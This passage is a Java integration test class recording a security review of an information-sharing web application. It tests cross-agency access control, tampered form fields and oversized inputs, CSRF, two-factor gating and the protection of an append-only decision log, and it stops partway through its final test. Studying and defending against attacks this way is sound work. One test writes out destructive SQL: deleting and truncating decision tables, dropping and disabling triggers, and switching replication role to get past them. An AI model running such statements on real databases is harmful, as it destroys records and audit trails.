package org.ccrhub.sharing.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.ccrhub.AdminCommands;
import org.ccrhub.CcrHubTest;
import org.ccrhub.Fixtures;
import org.ccrhub.partnership.Agency;
import org.ccrhub.partnership.AgencyType;
import org.ccrhub.partnership.Partnerships;
import org.ccrhub.security.Role;
import org.ccrhub.shared.Partnership;
import org.ccrhub.sharing.SharingImport;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

/**
 * Information sharing attacked from outside (a security review, 2026-12-03): users of a third
 * agency, viewers, SPOCs and data protection leads of another partnership, an officer who moved
 * agency, a deputy whose party left, the requesting officer trying to decide; tampered form fields
 * and addresses; hostile import files; a tampered database.
 *
 * <p>Each finding of the review has a test here, which failed until it was fixed; the others pass
 * and pin what held.
 */
@CcrHubTest
class SharingAttackIntegrationTests extends SharingPageTests {

  @Autowired Partnerships partnerships;
  @Autowired AdminCommands commands;
  @Autowired SharingImport sharingImport;
  @TempDir Path dir;

  String councilUser;

  @BeforeEach
  void aColleagueOfTheCouncilsSpoc() {
    councilUser = member(Role.ACTION_LEAD, "Colin Council", council);
  }

  // --- helpers

  long accountOf(String email) {
    return jdbc.sql("select id from user_account where email = :e")
        .param("e", email)
        .query(Long.class)
        .single();
  }

  /**
   * The request form filled in, asking the council about a victim with a date of birth and, when
   * consent was not sought, a reason that gives away where she hides (what leaks are looked for);
   * {@code more} adds fields (a {@code token} among them replaces the form's new one).
   */
  MockHttpServletRequestBuilder request(String consent, String... more) {
    String token = UUID.randomUUID().toString();
    List<String> rest = new ArrayList<>();
    for (int i = 0; i + 1 < more.length; i += 2) {
      if (more[i].equals("token")) {
        token = more[i + 1];
      } else {
        rest.add(more[i]);
        rest.add(more[i + 1]);
      }
    }
    more = rest.toArray(String[]::new);
    MockHttpServletRequestBuilder post =
        post(base + "/requests/new")
            .with(csrf())
            .param("token", token)
            .param("askedAgency", Long.toString(council.id()))
            .param("protocol", Long.toString(protocolId))
            .param("informationSought", "Any record of domestic abuse at the address")
            .param("purpose", "Risk assessment before the MARAC")
            .param("categories", "PERSONAL")
            .param("bases", basis("UK GDPR 6(1)(e)"), basis("Crime and Disorder Act 1998 s115"))
            .param("urgent", "no")
            .param("subjects[0].role", "VICTIM")
            .param("subjects[0].name", "Vicky Victim")
            .param("subjects[0].address", "1 High Street, Northbridge")
            .param("subjects[0].dob.day", "1")
            .param("subjects[0].dob.month", "2")
            .param("subjects[0].dob.year", "1985")
            .param("subjects[0].consent", consent)
            .param(
                "subjects[0].notSoughtReason",
                "NOT_SOUGHT".equals(consent)
                    ? "She is hiding at her sister's, 4 Refuge Road, from her ex-partner"
                    : "");
    for (int i = 0; i + 1 < more.length; i += 2) {
      post.param(more[i], more[i + 1]);
    }
    return post;
  }

  /** The officer raises a request with the consent answer; its number. */
  int raised(String consent) throws Exception {
    MockHttpServletResponse response = send(request(consent), twoFactor.signIn(mvc, officer));
    assertThat(response.getRedirectedUrl()).as(response.getContentAsString()).isNotNull();
    String url = response.getRedirectedUrl();
    return Integer.parseInt(url.substring(url.lastIndexOf('/') + 1));
  }

  /** A decision form with the date decided and who authorised it; {@code fields} adds fields. */
  MockHttpServletRequestBuilder decision(String path, LocalDate decidedOn, String... fields) {
    MockHttpServletRequestBuilder post =
        post(base + path)
            .with(csrf())
            .param("decidedOn.day", Integer.toString(decidedOn.getDayOfMonth()))
            .param("decidedOn.month", Integer.toString(decidedOn.getMonthValue()))
            .param("decidedOn.year", Integer.toString(decidedOn.getYear()))
            .param("authorisedBy", "Sam Spoc, Information Governance");
    for (int i = 0; i + 1 < fields.length; i += 2) {
      post.param(fields[i], fields[i + 1]);
    }
    return post;
  }

  /** Sharing with consent today: the types, the method and the date supplied. */
  String[] sharedToday(String... more) {
    List<String> fields =
        new ArrayList<>(
            List.of(
                "outcome",
                "SHARE",
                "informationTypes",
                "Police incidents",
                "method",
                "SECURE_EMAIL",
                "suppliedOn.day",
                Integer.toString(today.getDayOfMonth()),
                "suppliedOn.month",
                Integer.toString(today.getMonthValue()),
                "suppliedOn.year",
                Integer.toString(today.getYear())));
    fields.addAll(List.of(more));
    return fields.toArray(String[]::new);
  }

  /** Moves the request back in time, as if made {@code days} ago (the due date with it). */
  void madeDaysAgo(int number, int days) {
    jdbc.sql(
            "update sharing_request set requested_on = :made, due_on = :due"
                + " where partnership_id = :p and number = :n")
        .param("made", today.minusDays(days))
        .param("due", today.minusDays(days).plusDays(14))
        .param("p", partnership.id())
        .param("n", number)
        .update();
  }

  int count(String sql) {
    return jdbc.sql(sql).param("p", partnership.id()).query(Integer.class).single();
  }

  List<CSVRecord> csv(byte[] bytes) throws Exception {
    return CSVFormat.RFC4180
        .builder()
        .setHeader()
        .setSkipHeaderRecord(true)
        .get()
        .parse(new StringReader(new String(bytes, StandardCharsets.UTF_8)))
        .getRecords();
  }

  MockHttpServletResponse logFile(MockHttpSession session, String format) throws Exception {
    return send(
        post(base + "/log/export").with(csrf()).param("format", format).param("reason", "ICO"),
        session);
  }

  Path file(String name, byte[] content) throws Exception {
    Path file = dir.resolve(name);
    Files.write(file, content);
    return file;
  }

  String aPartnershipSlug() {
    String slug = "attack-" + System.nanoTime();
    assertThat(
            commands
                .run("partnership", "create", "--slug", slug, "--name", "Attack CSP")
                .exitCode())
        .isZero();
    return slug;
  }

  // --- findings: these fail until fixed

  /**
   * Finding 1. {@code SharingRequest.decision()} takes the last entry in decision-date order, not
   * the entry nothing corrects: a correction dated before the entry it corrects (the decision was
   * really made earlier) leaves the page showing the corrected outcome, and a second correction is
   * refused for ever ("Someone corrected this decision a moment ago").
   */
  @Test
  void aCorrectionDatedBeforeTheEntryItCorrectsIsTheDecisionInForce() throws Exception {
    int number = raised("GIVEN");
    madeDaysAgo(number, 10);
    MockHttpSession asSpoc = twoFactor.signIn(mvc, spoc);
    String path = "/requests/" + number + "/decision";
    assertThat(
            send(decision(path, today, sharedToday("bases", basis("UK GDPR 6(1)(e)"))), asSpoc)
                .getRedirectedUrl())
        .isNotNull();
    MockHttpServletResponse corrected =
        send(
            decision(
                path + "/correct",
                today.minusDays(5),
                "outcome",
                "REFUSE",
                "reasons",
                "The council holds no record",
                "correctionReason",
                "Refused by phone on the day; shared in error"),
            asSpoc);
    assertThat(corrected.getRedirectedUrl()).isNotNull();
    // the figures count the refusal (they read the entry nothing corrects)...
    assertThat(
            count(
                "select count(*) from sharing_decision d where d.partnership_id = :p"
                    + " and d.outcome = 'REFUSE'"
                    + " and not exists (select 1 from sharing_decision c where c.corrects_id ="
                    + " d.id)"))
        .isOne();
    // ...and the request page shows the refusal as the decision in force
    String page = send(get(base + "/requests/" + number), asSpoc).getContentAsString();
    assertThat(page).containsPattern("govuk-tag--grey\">Refuse</strong>");
    // and the decision in force can be corrected again
    MockHttpServletResponse again =
        send(
            decision(
                path + "/correct",
                today.minusDays(5),
                "outcome",
                "REFUSE",
                "reasons",
                "The council holds no record of her",
                "correctionReason",
                "Reasons worded as the letter sent"),
            asSpoc);
    assertThat(again.getRedirectedUrl()).as(again.getContentAsString()).isNotNull();
  }

  /**
   * Finding 2. Why consent was not sought is a personal column (V0027 marks it so) and often
   * locates the person, yet every user of the two agencies sees it, not only those who see the
   * subjects' details.
   */
  @Test
  void whyConsentWasNotSoughtIsShownOnlyWithTheSubjectsDetails() throws Exception {
    int number = raised("NOT_SOUGHT");
    String page =
        send(get(base + "/requests/" + number), twoFactor.signIn(mvc, councilUser))
            .getContentAsString();
    assertThat(page).contains("Request " + number).doesNotContain("Vicky Victim");
    assertThat(page).doesNotContain("4 Refuge Road");
  }

  /**
   * Finding 3. The decision log's asked agency (and its request date, purpose, subject roles,
   * consents and lawful bases' codes) are read from live rows when the log is shown or written, not
   * kept with the entry: renaming an agency rewrites every past entry's asked agency, while the
   * requesting agency stays as recorded.
   */
  @Test
  void theLogSaysWhatWasRecordedAfterTheAskedAgencyIsRenamed() throws Exception {
    int number = raised("GIVEN");
    assertThat(
            send(
                    decision(
                        "/requests/" + number + "/decision",
                        today,
                        sharedToday("bases", basis("UK GDPR 6(1)(e)"))),
                    twoFactor.signIn(mvc, spoc))
                .getRedirectedUrl())
        .isNotNull();
    MockHttpSession asDpl = twoFactor.signIn(mvc, dpl);
    CSVRecord before = csv(logFile(asDpl, "csv").getContentAsByteArray()).get(0);
    assertThat(before.get("asked_agency")).isEqualTo("Northbridge Council");

    agencies.update(
        partnership,
        council.id(),
        council.version(),
        "Northbridge Borough Council",
        AgencyType.LOCAL_AUTHORITY);
    // the same goes for a tampered request row, which no trigger protects
    jdbc.sql("update sharing_request set purpose = 'Changed later' where partnership_id = :p")
        .param("p", partnership.id())
        .update();

    CSVRecord after = csv(logFile(asDpl, "csv").getContentAsByteArray()).get(0);
    assertThat(after.get("requesting_agency")).isEqualTo(before.get("requesting_agency"));
    assertThat(after.get("asked_agency")).isEqualTo(before.get("asked_agency"));
    assertThat(after.get("request_date")).isEqualTo(before.get("request_date"));
    assertThat(after.get("lawful_basis")).isEqualTo(before.get("lawful_basis"));
    assertThat(after.get("summary")).isEqualTo(before.get("summary"));
    // the purpose is the request's own text (Part A), personal and removed at retention, so the
    // log reads it from the request while it is kept; the entry's summary is what stays
  }

  /**
   * Finding 4. A file of the log is taken by anyone who gets past two-factor sign-in: the export
   * checks no {@code readsLog()} when the form has no problem, so a viewer or a third agency's
   * officer gets 200 and an empty file, recorded as an export, where the page gives them 404.
   */
  @Test
  void aFileOfTheLogIsNotFoundForThoseWhoMayNotReadTheLog() throws Exception {
    raised("GIVEN");
    assertThat(send(get(base + "/log"), twoFactor.signIn(mvc, viewer)).getStatus()).isEqualTo(404);
    assertThat(logFile(twoFactor.signIn(mvc, viewer), "csv").getStatus()).isEqualTo(404);
    assertThat(logFile(twoFactor.signIn(mvc, housingOfficer), "xlsx").getStatus()).isEqualTo(404);
  }

  /**
   * Finding 5. A decision is recorded with no lawful basis at all (or only a power to share, or a
   * basis no longer in use): the log entry then cannot answer "on what legal basis", which is what
   * the ICO asks.
   */
  @Test
  void aDecisionToShareWithoutAnyLawfulBasisIsRefused() throws Exception {
    int number = raised("GIVEN");
    String page =
        send(
                decision("/requests/" + number + "/decision", today, sharedToday()),
                twoFactor.signIn(mvc, spoc))
            .getContentAsString();
    assertThat(count("select count(*) from sharing_decision where partnership_id = :p"))
        .as(page)
        .isZero();
  }

  /**
   * Finding 6. The types of information disclosed (ticked boxes, which a tampered form fills) have
   * no length or list check and no database check, and the log keeps them for ever.
   */
  @Test
  void anInformationTypeOfThousandsOfCharactersIsRefusedNotKeptForever() throws Exception {
    int number = raised("GIVEN");
    MockHttpServletRequestBuilder form =
        decision(
            "/requests/" + number + "/decision",
            today,
            sharedToday("bases", basis("UK GDPR 6(1)(e)")));
    for (int i = 0; i < 200; i++) {
      form.param("informationTypes", i + " " + "x".repeat(5000));
    }
    send(form, twoFactor.signIn(mvc, spoc));
    assertThat(
            count(
                "select coalesce(max(length(t)), 0) from sharing_decision d,"
                    + " unnest(d.information_types) t where d.partnership_id = :p"))
        .isLessThanOrEqualTo(100);
  }

  /**
   * Finding 7. A request may ask for kinds of information its protocol does not cover (ADR 20: "its
   * categories (within the protocol's)"): criminal offence information under a protocol for
   * personal information only.
   */
  @Test
  void aRequestAsksOnlyForKindsOfInformationItsProtocolCovers() throws Exception {
    jdbc.sql("update sharing_protocol set categories = '{PERSONAL}' where id = :id")
        .param("id", protocolId)
        .update();
    MockHttpServletResponse response =
        send(
            request(
                "GIVEN",
                "categories",
                "CRIMINAL_OFFENCE",
                "bases",
                basis("UK GDPR 10"),
                "bases",
                basis("DPA 2018 Sch 1 para 10")),
            twoFactor.signIn(mvc, officer));
    assertThat(count("select count(*) from sharing_request where partnership_id = :p"))
        .as(response.getContentAsString())
        .isZero();
  }

  /**
   * Finding 8. {@code recorded_by} of an imported entry is "Imported from FILE by WHO", of any
   * length, and the table allows 300 characters: a long file name (a browser sends any, and {@code
   * user.name} is added on the command line) ends the import in a check violation whose message
   * quotes the failing row, purpose and reasons included, into the log.
   */
  @Test
  void anImportWithALongFileNameIsNotADatabaseErrorQuotingTheRow() {
    byte[] log =
        (HEADER
                + "2016-05-23,Northbridge Police,PC Ann Smith,Northbridge Council,Northbridge ISP,"
                + "victim,Check on Jane Doe at 4 Refuge Road,no,,given,UK GDPR 6(1)(e),"
                + "2016-05-26,share,,,,J Brown,Contact details,secure email\r\n")
            .getBytes(StandardCharsets.UTF_8);
    Throwable thrown =
        catchThrowable(
            () ->
                sharingImport.importLog(
                    partnership, log, "decision log " + "x".repeat(290) + ".csv", "Dana Lead"));
    assertThat(thrown)
        .as("the import failed with: %s", thrown == null ? "" : thrown.getMessage())
        .isNull();
  }

  /**
   * Finding 9 (a tampered database). V0027 let {@code membership.role} be {@code SHARING_OFFICER}
   * before {@code security.Role} had it: the member's every page of the partnership was a server
   * error. The database allows exactly the roles the code knows, and no other.
   */
  @Test
  void theDatabaseAllowsNoRoleTheCodeDoesNotKnow() throws Exception {
    String frontline = fixtures.user(partnership, Role.ACTION_LEAD);
    org.assertj.core.api.Assertions.assertThatThrownBy(
            () ->
                jdbc.sql(
                        "insert into membership (user_account_id, partnership_id, role)"
                            + " values (:a, :p, 'SUPER_USER')")
                    .param("a", accountOf(frontline))
                    .param("p", partnership.id())
                    .update())
        .isInstanceOf(org.springframework.dao.DataIntegrityViolationException.class);
    String check =
        jdbc.sql(
                "select pg_get_constraintdef(oid) from pg_constraint"
                    + " where conrelid = 'membership'::regclass and conname = 'membership_role_check'")
            .query(String.class)
            .single();
    assertThat(java.util.regex.Pattern.compile("'([A-Z_]+)'").matcher(check).results())
        .extracting(m -> m.group(1))
        .containsExactlyInAnyOrder(
            java.util.Arrays.stream(Role.values()).map(Enum::name).toArray(String[]::new));
    assertThat(send(get(base), Fixtures.signIn(mvc, frontline)).getStatus()).isEqualTo(200);
  }

  /**
   * Finding 10. A SPOC decides (and reads the decision log, and sees subject details) from before
   * their party joined: {@code SharingAccess.decidesUnder} checks the day the party left but not
   * the day it joined.
   */
  @Test
  void aSpocWhosePartyHasNotJoinedYetDecidesNothing() throws Exception {
    jdbc.sql("update sharing_party set party_from = :from where agency_id = :a")
        .param("from", today.plusMonths(1))
        .param("a", council.id())
        .update();
    assertThat(send(get(base + "/log"), twoFactor.signIn(mvc, spoc)).getStatus()).isEqualTo(404);
  }

  /**
   * Finding 11 (a tampered database). The request number is an int and {@code last + 1} is not
   * checked: at the last number a new request is a server error, not a refusal.
   */
  @Test
  void theLastRequestNumberIsARefusalNotAServerError() throws Exception {
    jdbc.sql(
            "insert into sharing_number (partnership_id, last_number) values (:p, 2147483647)"
                + " on conflict (partnership_id) do update set last_number = 2147483647")
        .param("p", partnership.id())
        .update();
    assertThat(send(request("GIVEN"), twoFactor.signIn(mvc, officer)).getStatus())
        .isNotEqualTo(500);
  }

  // --- what held

  @Test
  void nobodyElseFindsTheRequestNorDecidesIt() throws Exception {
    int number = raised("GIVEN");
    String page = base + "/requests/" + number;

    // a third agency's officer, a viewer of the requesting agency
    for (String outsider : List.of(housingOfficer, viewer)) {
      MockHttpSession session = twoFactor.signIn(mvc, outsider);
      for (String path :
          List.of(page, page + "/looked-at", page + "/decision", page + "/decision/correct")) {
        assertThat(send(get(path), session).getStatus()).as(outsider + " " + path).isEqualTo(404);
      }
      assertThat(send(get(base + "/requests"), session).getContentAsString())
          .doesNotContain("Request " + number);
    }

    // a SPOC and a data protection lead of another partnership
    Partnership other = fixtures.partnership();
    Agency otherCouncil = agencies.create(other, "Northbridge Council", AgencyType.OTHER);
    String otherSpoc = member(other, Role.ANALYST, "Olga Other", otherCouncil);
    long otherProtocol = protocol(other, "Northbridge ISP", today.minusYears(1), null);
    party(other, otherProtocol, otherCouncil, personOf(otherSpoc));
    String otherDpl = member(other, Role.DATA_PROTECTION_LEAD, "Otto Lead", null);
    for (String outsider : List.of(otherSpoc, otherDpl)) {
      MockHttpSession session = twoFactor.signIn(mvc, outsider);
      assertThat(send(get(page), session).getStatus()).isEqualTo(404);
      assertThat(send(get(base + "/log"), session).getStatus()).isEqualTo(404);
      assertThat(
              send(get("/p/" + other.slug() + "/sharing/requests/" + number), session).getStatus())
          .isEqualTo(404);
      assertThat(send(get("/p/" + other.slug() + "/sharing/log"), session).getContentAsString())
          .doesNotContain("Request " + number);
    }
    // another partnership's data protection lead who is only a viewer here
    jdbc.sql(
            "insert into membership (user_account_id, partnership_id, role) values (:a, :p,"
                + " 'VIEWER')")
        .param("a", accountOf(otherDpl))
        .param("p", partnership.id())
        .update();
    assertThat(send(get(page), twoFactor.signIn(mvc, otherDpl)).getStatus()).isEqualTo(404);

    // the requesting officer may read it but not decide it, nor see who looked
    MockHttpSession asOfficer = twoFactor.signIn(mvc, officer);
    assertThat(send(get(page + "/decision"), asOfficer).getStatus()).isEqualTo(404);
    assertThat(send(get(page + "/looked-at"), asOfficer).getStatus()).isEqualTo(404);
    assertThat(
            send(
                    decision(
                        page.substring(base.length()) + "/decision",
                        today,
                        sharedToday("bases", basis("UK GDPR 6(1)(e)"))),
                    asOfficer)
                .getStatus())
        .isEqualTo(404);
    // a council user who is no SPOC reads it without the subjects' details and decides nothing
    MockHttpSession asCouncilUser = twoFactor.signIn(mvc, councilUser);
    assertThat(send(get(page), asCouncilUser).getContentAsString())
        .contains("Request " + number)
        .doesNotContain("Vicky Victim", "High Street", "1985");
    assertThat(send(get(page + "/decision"), asCouncilUser).getStatus()).isEqualTo(404);
    assertThat(send(get(base + "/log"), asCouncilUser).getStatus()).isEqualTo(404);

    // the officer moves to Southmere Homes: the request and its details go with the old agency
    jdbc.sql("update person set agency_id = :a where id = :id")
        .param("a", housing.id())
        .param("id", personOf(officer))
        .update();
    assertThat(send(get(page), twoFactor.signIn(mvc, officer)).getStatus()).isEqualTo(404);
    // ...and to the council, as its SPOC's colleague: they see it, but not the details
    jdbc.sql("update person set agency_id = :a where id = :id")
        .param("a", council.id())
        .param("id", personOf(officer))
        .update();
    assertThat(send(get(page), twoFactor.signIn(mvc, officer)).getContentAsString())
        .doesNotContain("Vicky Victim");

    // a deputy whose party has left the protocol: no details, no decision, no log
    String deputy = member(partnership, Role.VIEWER, "Dee Deputy", council);
    jdbc.sql("update sharing_party set deputy_person_id = :d where agency_id = :a")
        .param("d", personOf(deputy))
        .param("a", council.id())
        .update();
    MockHttpSession asDeputy = twoFactor.signIn(mvc, deputy);
    assertThat(send(get(page), asDeputy).getContentAsString()).contains("Vicky Victim");
    jdbc.sql("update sharing_party set party_until = :until where agency_id = :a")
        .param("until", today.minusDays(1))
        .param("a", council.id())
        .update();
    assertThat(send(get(page), asDeputy).getStatus()).isEqualTo(404);
    assertThat(send(get(page + "/decision"), asDeputy).getStatus()).isEqualTo(404);
    assertThat(send(get(base + "/log"), asDeputy).getStatus()).isEqualTo(404);
  }

  @Test
  void addressesThatNameNoRequestAreNotFound() throws Exception {
    raised("GIVEN");
    MockHttpSession asDpl = twoFactor.signIn(mvc, dpl);
    for (String number :
        List.of("abc", "99999999999", "2147483647", "-1", "0", "1.5", "1e3", "%20", "null")) {
      for (String tail : List.of("", "/looked-at", "/decision", "/decision/correct")) {
        int status = send(get(base + "/requests/" + number + tail), asDpl).getStatus();
        assertThat(status).as(number + tail).isIn(400, 404);
      }
    }
    assertThat(send(get(base + "/requests/1/decision/correct"), asDpl).getStatus()).isEqualTo(404);
  }

  @Test
  void tamperedFormFieldsAreRefusedNeverAServerError() throws Exception {
    MockHttpSession asOfficer = twoFactor.signIn(mvc, officer);
    Partnership other = fixtures.partnership();
    Agency otherAgency = agencies.create(other, "Other Council", AgencyType.LOCAL_AUTHORITY);
    long otherProtocol = protocol(other, "Other ISP", today.minusYears(1), null);
    long otherBasis =
        jdbc.sql(
                "insert into lawful_basis (partnership_id, kind, code, title)"
                    + " values (:p, 'ARTICLE_6', 'Local 6', 'Other partnership basis')"
                    + " returning id")
            .param("p", other.id())
            .query(Long.class)
            .single();

    List<String[]> tampered =
        List.of(
            new String[] {"askedAgency", Long.toString(otherAgency.id())},
            new String[] {"askedAgency", Long.toString(police.id())},
            new String[] {"askedAgency", "-1"},
            new String[] {"askedAgency", "99999999999999999999999"},
            new String[] {"protocol", Long.toString(otherProtocol)},
            new String[] {"protocol", "0x10"},
            new String[] {"subjects[0].dob.year", "99999999999"},
            new String[] {"subjects[0].dob.year", "-1985"},
            new String[] {"subjects[0].role", "KING"},
            new String[] {"subjects[0].consent", "MAYBE"},
            new String[] {"subjects[0].name", "x".repeat(100_000)},
            new String[] {"informationSought", "x".repeat(100_000)},
            new String[] {"neededBy.day", "31"},
            new String[] {"neededBy.month", "2"},
            new String[] {"neededBy.year", "2199"},
            new String[] {"subjects[20].name", "Twenty-first"},
            new String[] {"subjects[9999].name", "Ten thousandth"},
            new String[] {"subjects[-1].name", "Minus one"},
            new String[] {"subjects[abc].name", "Letters"},
            new String[] {"subjects[99999999999].name", "Overflow"});
    for (String[] field : tampered) {
      MockHttpServletRequestBuilder form = post(base + "/requests/new").with(csrf());
      // the good form with one field replaced
      MockHttpServletRequestBuilder good = request("GIVEN");
      var built = good.buildRequest(new org.springframework.mock.web.MockServletContext());
      built
          .getParameterMap()
          .forEach(
              (name, values) -> {
                if (!name.equals(field[0]) && !name.equals("_csrf")) {
                  form.param(name, values);
                }
              });
      form.param(field[0], field[1]);
      int status = send(form, asOfficer).getStatus();
      assertThat(status)
          .as(field[0] + "=" + field[1].substring(0, Math.min(40, field[1].length())))
          .isIn(200, 400);
    }
    // the basis of another partnership is not claimed: with it alone, no Article 6 basis
    String page =
        send(request("GIVEN").param("bases", Long.toString(otherBasis)), asOfficer)
            .getContentAsString();
    assertThat(
            count(
                "select count(*) from sharing_request_basis rb join sharing_request r on"
                    + " r.id = rb.request_id where r.partnership_id = :p and rb.basis_id = "
                    + otherBasis))
        .as(page)
        .isZero();
    // 10,000 ticked boxes of nonsense
    MockHttpServletRequestBuilder boxes = request("GIVEN");
    for (int i = 0; i < 10_000; i++) {
      boxes.param("categories", "C" + i).param("bases", Integer.toString(-i));
    }
    assertThat(send(boxes, asOfficer).getStatus()).isIn(200, 302, 400);

    // the same form sent twice makes one request
    String token = UUID.randomUUID().toString();
    MockHttpServletResponse first = send(request("GIVEN", "token", token), asOfficer);
    MockHttpServletResponse second = send(request("GIVEN", "token", token), asOfficer);
    assertThat(first.getRedirectedUrl()).isNotNull();
    assertThat(second.getRedirectedUrl()).isEqualTo(first.getRedirectedUrl());
    assertThat(
            count(
                "select count(*) from sharing_request where partnership_id = :p and form_token ="
                    + " '"
                    + token
                    + "'"))
        .isOne();

    // nothing is posted without the CSRF token
    int number = raised("GIVEN");
    MockHttpSession asSpoc = twoFactor.signIn(mvc, spoc);
    for (String path :
        List.of(
            "/requests/new",
            "/requests/" + number + "/decision",
            "/requests/" + number + "/decision/correct",
            "/log/export")) {
      assertThat(
              send(post(base + path).param("format", "csv").param("reason", "x"), asSpoc)
                  .getStatus())
          .as(path)
          .isEqualTo(403);
    }

    // a tampered decision form
    String path = "/requests/" + number + "/decision";
    List<String[]> decisionFields =
        List.of(
            new String[] {"grounds[999]", "PUBLIC_INTEREST"},
            new String[] {"grounds", "NOT_A_GROUND"},
            new String[] {"bases", Long.toString(otherBasis)},
            new String[] {"bases", "abc"},
            new String[] {"outcome", "SHARE_EVERYTHING"},
            new String[] {"method", "CARRIER_PIGEON"},
            new String[] {"suppliedOn.year", "99999999999"},
            new String[] {"reasons", "x".repeat(100_000)},
            new String[] {"summary", "x".repeat(100_000)},
            new String[] {"otherTypes", "x".repeat(100_000)},
            new String[] {"authorisedBy", ""});
    for (String[] field : decisionFields) {
      int status = send(decision(path, today, sharedToday(field[0], field[1])), asSpoc).getStatus();
      // 404 once one of them is recorded: the request is no longer open
      assertThat(status).as(field[0]).isIn(200, 302, 400, 404);
    }
    assertThat(
            count(
                "select count(*) from sharing_decision_basis db join sharing_decision d on d.id ="
                    + " db.decision_id where d.partnership_id = :p and db.basis_id = "
                    + otherBasis))
        .isZero();

    // the log's filters and its file, tampered
    MockHttpSession asDpl = twoFactor.signIn(mvc, dpl);
    String[][] filters = {
      {"agency", "abc"},
      {"agency", Long.toString(otherAgency.id())},
      {"protocol", "-5"},
      {"decision", "NOPE"},
      {"basis", "99999999999999999999"},
      {"from", "31/02/2026"},
      {"from", "1/1/0000"},
      {"to", "31/12/9999"},
      {"role", "KING"},
      {"from", "x".repeat(10_000)}
    };
    for (String[] filter : filters) {
      assertThat(send(get(base + "/log").param(filter[0], filter[1]), asDpl).getStatus())
          .as(filter[0] + "=" + filter[1].substring(0, Math.min(20, filter[1].length())))
          .isEqualTo(200);
    }
    for (String[] file :
        new String[][] {
          {"exe", "ICO"}, {"csv", ""}, {"csv", "x".repeat(501)}, {"pdf", "x".repeat(100_000)}
        }) {
      MockHttpServletResponse response =
          send(
              post(base + "/log/export")
                  .with(csrf())
                  .param("format", file[0])
                  .param("reason", file[1]),
              asDpl);
      assertThat(response.getStatus()).isEqualTo(200);
      assertThat(response.getContentAsString()).contains("There is a problem");
    }
  }

  @Test
  void withoutTwoFactorSignInNothingIsLookedUpOrDone() throws Exception {
    int number = raised("GIVEN");
    // a colleague of the officer who would see the request, never enrolled
    String colleague = member(partnership, Role.STRATEGIC_LEAD, "Pat Plain", police);
    MockHttpSession plain = Fixtures.signIn(mvc, colleague);
    String r = base + "/requests/" + number;
    List<MockHttpServletRequestBuilder> attempts =
        List.of(
            get(base + "/requests"),
            get(base + "/requests/new"),
            request("GIVEN"),
            get(r),
            get(r + "/looked-at"),
            get(r + "/decision"),
            decision(
                "/requests/" + number + "/decision",
                today,
                sharedToday("bases", basis("UK GDPR 6(1)(e)"))),
            get(r + "/decision/correct"),
            get(base + "/log"),
            post(base + "/log/export").with(csrf()).param("format", "csv").param("reason", "x"));
    for (MockHttpServletRequestBuilder attempt : attempts) {
      MockHttpServletResponse response = send(attempt, plain);
      assertThat(response.getStatus()).isEqualTo(200);
      // the page that says so is a forward, which MockMvc records and a server follows
      assertThat(response.getForwardedUrl()).isEqualTo(base + "/two-factor-needed");
      assertThat(response.getContentAsString()).doesNotContain("Vicky", "Request " + number);
    }
    assertThat(count("select count(*) from sharing_request where partnership_id = :p")).isOne();
    assertThat(
            jdbc.sql(
                    "select count(*) from audit_event where actor_user_id = :a and"
                        + " (object_type like 'Sharing%' or object_type = 'DecisionLog')")
                .param("a", accountOf(colleague))
                .query(Integer.class)
                .single())
        .isZero();
  }

  @Test
  void theDecisionLogStaysAppendOnlyForTheApplication() throws Exception {
    int number = raised("GIVEN");
    assertThat(
            send(
                    decision(
                        "/requests/" + number + "/decision",
                        today,
                        sharedToday("bases", basis("UK GDPR 6(1)(e)"))),
                    twoFactor.signIn(mvc, spoc))
                .getRedirectedUrl())
        .isNotNull();
    for (String sql :
        List.of(
            "update sharing_decision set outcome = 'REFUSE', reasons = 'x' where partnership_id"
                + " = :p",
            "delete from sharing_decision_basis where decision_id in (select id from"
                + " sharing_decision where partnership_id = :p)",
            "delete from sharing_decision where partnership_id = :p",
            "delete from sharing_request where partnership_id = :p",
            "truncate sharing_decision cascade",
            "truncate sharing_decision_basis",
            "alter table sharing_decision disable trigger all",
            "drop trigger sharing_decision_append_only on sharing_decision",
            "set session_replication_role = replica")) {
      assertThatThrownBy(
              () -> {
                var statement = jdbc.sql(sql);
                if (sql.contains(":p")) {
                  statement = statement.param("p", partnership.id());
                }
                statement.update();
              })
          .as(sql)
          .isInstanceOf(org.springframework.dao.DataAccessException.class);
    }
    assertThat(
            count(
                "select count(*) from sharing_decision where partnership_id = :p and outcome ="
                    + " 'SHARE'"))
        .isOne();
  }

  @Test
  void noSubjectDetailReachesTheTrailTheLogOrItsFiles() throws Exception {
    int number = raised("NOT_SOUGHT");
    MockHttpSession asSpoc = twoFactor.signIn(mvc, spoc);
    assertThat(
            send(
                    decision(
                        "/requests/" + number + "/decision",
                        today,
                        sharedToday(
                            "bases",
                            basis("UK GDPR 6(1)(e)"),
                            "grounds",
                            "PREVENT_SIGNIFICANT_HARM",
                            "subjectTold",
                            "no",
                            "notToldReason",
                            "It would raise the risk")),
                    asSpoc)
                .getRedirectedUrl())
        .isNotNull();
    send(get(base + "/requests/" + number), asSpoc);
    assertThat(send(get(base + "/requests/" + number + "/looked-at"), asSpoc).getContentAsString())
        .contains("Who looked at request " + number)
        .doesNotContain("Vicky");
    MockHttpSession asDpl = twoFactor.signIn(mvc, dpl);
    send(get(base + "/requests/" + number), asDpl);
